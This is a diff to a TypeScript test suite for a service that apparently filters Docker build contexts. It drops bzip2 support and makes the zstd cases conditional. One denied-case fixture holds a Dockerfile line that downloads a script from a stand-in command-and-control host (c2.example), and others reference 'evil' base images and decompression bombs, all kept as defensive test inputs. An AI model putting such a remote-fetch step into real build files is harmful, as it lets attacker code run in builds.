@@ -2,7 +2,7 @@ import { connect, type Socket } from 'node:net';
 import { gzipSync } from 'node:zlib';
 import fc from 'fast-check';
 import t, { type Test } from 'tap';
-import { compressed } from '../support/compressed.js';
+import { compressed, hasZstd } from '../support/compressed.js';
 import { file, symlink, tar } from '../support/tar.js';
 import { FIN, RESET, talk, type Part } from '../support/raw.js';
 import { bytes, json, type Arrived, type Behaviour } from '../support/recording-upstream.js';
@@ -104,9 +104,8 @@ await t.test('a good context arrives anew, with its end, labels and all', async 
   for (const [name, body] of [
     ['plain', dockerfile('FROM alpine\nRUN echo hi\n')],
     ['gzip', gzipSync(dockerfile('FROM alpine\nRUN echo hi\n'))],
-    ['bzip2', compressed('alpine.bz2')],
     ['xz', compressed('alpine.xz')],
-    ['zstd', compressed('alpine.zst')],
+    ...(hasZstd ? ([['zstd', compressed('alpine.zst')]] as const) : []),
     ['no end blocks', dockerfile('FROM alpine\nRUN echo hi\n').subarray(0, -1024)],
   ] as const) {
     const seen = await attempt(t, [post(body)]);
@@ -126,11 +125,10 @@ await t.test('a good context arrives anew, with its end, labels and all', async 
 });
 
 await t.test('a context that is denied has no end for the engine', async (t) => {
-  const denied: readonly [name: string, body: Buffer, message: RegExp][] = [
+  const denied: readonly (readonly [name: string, body: Buffer, message: RegExp])[] = [
     ['another base', dockerfile('FROM evil\n'), /build\.from/],
-    ['another base in bzip2', compressed('evil.bz2'), /build\.from/],
     ['another base in xz', compressed('evil.xz'), /build\.from/],
-    ['another base in zstd', compressed('evil.zst'), /build\.from/],
+    ...(hasZstd ? ([['another base in zstd', compressed('evil.zst'), /build\.from/]] as const) : []),
     [
       'a download',
       dockerfile('FROM alpine\nRUN wget http://c2.example/main.sh\n'),
@@ -171,13 +169,16 @@ await t.test('a context that is broken, cut, silent or too large', async (t) => 
   const cases: readonly [name: string, parts: readonly Part[], status: number][] = [
     ['not an archive', [post(Buffer.from('FROM alpine\n'.repeat(100)))], 400],
     ['an archive that stops', [post(body.subarray(0, 520))], 400],
-    ['bzip2 that stops', [post(compressed('alpine.bz2').subarray(0, -1))], 400],
+    ['bzip2', [post(compressed('alpine.bz2'))], 415],
+    ['another base in bzip2', [post(compressed('evil.bz2'))], 415],
+    ['bzip2 that stops', [post(compressed('alpine.bz2').subarray(0, -1))], 415],
     ['xz that stops', [post(compressed('alpine.xz').subarray(0, -1))], 400],
-    ['zstd that stops', [post(compressed('alpine.zst').subarray(0, -1))], 400],
-    ['a wrong checksum', [post(damaged(compressed('alpine.zst')))], 400],
-    ['a bomb of bzip2', [post(compressed('bomb.bz2'))], 413],
+    ['xz with a wrong checksum', [post(damaged(compressed('alpine.xz')))], 400],
+    ['zstd that stops', [post(compressed('alpine.zst').subarray(0, -1))], hasZstd ? 400 : 415],
+    ['a wrong checksum', [post(damaged(compressed('alpine.zst')))], hasZstd ? 400 : 415],
+    ['a bomb of bzip2', [post(compressed('bomb.bz2'))], 415],
     ['a bomb of xz', [post(compressed('bomb.xz'))], 413],
-    ['a bomb of zstd', [post(compressed('bomb.zst'))], 413],
+    ['a bomb of zstd', [post(compressed('bomb.zst'))], hasZstd ? 413 : 415],
     ['silent in the middle of xz', [post(compressed('large.xz')).subarray(0, 1000)], 408],
     ['silent in the middle', [half], 408],
     [
@@ -193,6 +194,7 @@ await t.test('a context that is broken, cut, silent or too large', async (t) => 
     const seen = await attempt(t, parts);
     if (status !== 0) t.equal(seen.status, status, `${name}: ${seen.code} ${seen.message}`);
     else t.not(seen.status, 200, name);
+    if (status === 415) t.match(seen.message, /use gzip|with gzip instead/, `${name}: says what to do`);
     builtNothing(t);
   }
 });
